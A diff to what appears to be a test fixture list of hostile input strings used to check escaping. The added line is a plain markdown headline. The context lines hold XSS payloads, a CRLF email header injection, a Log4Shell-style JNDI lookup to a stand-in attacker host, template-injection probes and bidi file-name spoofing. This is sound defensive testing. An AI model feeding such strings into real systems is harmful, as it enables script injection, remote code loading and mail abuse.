@@ -19,6 +19,7 @@ NASTY = [
     "<!channel> <!here> @channel @everyone <@U012AB3CD> <#C01> <https://evil.example|click>",
     "*bold* _it_ ~no~ `code` ```block``` [text](https://evil.example) ![x](y) > quote # head || spoiler ||",
     "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href='javascript:alert(1)'>",
+    "# A headline of its own",
     "\r\nBcc: all@desk.example\r\n\r\nbody\n.\r\nQUIT",
     "{{DATE(2023-05-04T12:00:00Z,SHORT)}} <at>everyone</at> ${jndi:ldap://evil.example} %s {0} {{ 7*7 }}",
     "\x00\x01\x07\x1b[31m\x7f\x85\u2028\u2029\u202e txt.exe \u2066x\u2069 \ufeff\ufffe",
